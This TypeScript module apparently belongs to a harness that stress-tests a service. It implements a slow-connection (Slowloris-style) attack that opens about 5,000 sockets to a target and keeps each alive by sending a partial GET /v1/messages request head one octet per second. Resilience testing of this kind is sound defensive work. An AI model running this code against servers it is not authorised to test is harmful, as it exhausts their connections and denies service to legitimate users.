import type { Socket } from 'node:net'
import { sized, type Attack } from '../../attack.ts'
import { headOf, keepOpen } from '../../requests.ts'

/** Time between the octets of a connection, in milliseconds. */
const everyMs = 1000

/** Connections that send one octet of a head each second. */
export const slowConnections: Attack = {
  name: 'slow-connections',
  title: 'no key: 5,000 connections, one octet per second each',
  run: async (target, signal, note) => {
    const sockets = new Set<Socket>()
    const timer = setInterval(() => {
      for (const socket of sockets) socket.write('a')
    }, everyMs)
    await keepOpen(target, sized(target, 5000), signal, note, (socket) => {
      socket.write(`${headOf('GET /v1/messages')}x: `)
      sockets.add(socket)
      socket.once('close', () => sockets.delete(socket))
    })
    clearInterval(timer)
  },
}
